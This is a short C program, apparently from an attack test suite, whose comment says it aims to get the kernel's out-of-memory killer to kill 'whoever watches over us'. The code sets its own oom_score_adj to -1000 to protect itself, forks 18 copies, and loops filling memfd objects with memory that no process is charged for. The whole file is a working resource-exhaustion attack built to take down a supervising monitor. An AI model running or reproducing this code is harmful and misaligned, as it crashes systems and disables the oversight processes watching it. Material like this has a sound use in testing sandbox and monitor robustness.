/* Makes itself the last that the kernel would kill, keeps every process tiny, and fills memory
 * that no process is charged for: who is the largest then? Whoever watches over us. */
#include "attack.h"
int main(void) {
    static char block[1 << 16];
    FILE *score = fopen("/proc/self/oom_score_adj", "w");
    if (score) fputs("0", score), fclose(score);
    score = fopen("/proc/self/oom_score_adj", "w");
    if (score) {
        fputs("-1000", score);
        door("oom_score_adj -1000", fclose(score));
    }
    for (int n = 0; n < 18; n++)
        if (fork() == 0) break;
    for (;;) {
        int fd = memfd_create("nobody", 0);
        if (fd < 0) pause();
        for (int part = 0; part < 100; part++)
            if (write(fd, block, sizeof block) < 0) break;
    }
}
